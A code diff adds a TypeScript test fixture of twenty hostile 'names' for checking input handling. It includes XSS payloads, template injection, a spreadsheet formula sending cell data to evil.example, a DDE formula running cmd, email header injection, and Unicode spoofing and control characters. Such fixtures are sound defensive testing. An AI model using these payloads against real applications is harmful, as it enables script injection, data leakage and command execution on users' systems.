@@ -1,0 +1,23 @@
+/** Twenty names that try to be more than names. */
+export const hostileNames: readonly [what: string, name: string][] = [
+  ['a script', '<script>alert(1)</script>'],
+  ['an image with a handler', '"><img src=x onerror=alert(1)>'],
+  ['an attribute', `' onmouseover='alert(1)`],
+  ['a closing title', '</title></head><body onload=alert(1)>'],
+  ['a closing style', '</style><style>*{display:none}</style>'],
+  ['a closing svg', '</text></svg><svg onload=alert(1)>'],
+  ['an iframe', '<iframe srcdoc="<script>parent.alert(1)</script>">'],
+  ['a comment', '<!-- --><!--'],
+  ['CDATA', ']]><![CDATA['],
+  ['an entity', '&lt;b&gt;&#x3C;script&#x3E;&amp;'],
+  ['a template', '${alert(1)}{{constructor.constructor("alert(1)")()}}'],
+  ['an address', 'javascript:alert(1)'],
+  ['a spreadsheet formula', `=HYPERLINK("http://evil.example/?"&A1,"click")`],
+  ['a DDE formula', `@SUM(1+1)*cmd|' /C calc'!A0`],
+  ['a right-to-left override', 'ABC\u202Eknil\u202C\u2066x\u2069 Ltd'],
+  ['zero-width letters', 'Kara\u200Bkum\u200D\uFEFF Cotton\u00AD'],
+  ['line ends', 'First line\r\nSubject: forged\nBcc: all@example\u2028x\u2029y'],
+  ['controls', 'Bell\u0007 Null\u0000 Escape\u001B[31mred\u001B[0m\u0085'],
+  ['lone halves of a pair', 'Half \uD83D and \uDE00 name'],
+  ['ten thousand characters', `${'Very Long Trading '.repeat(555)}end`.slice(0, 10_000)],
+]
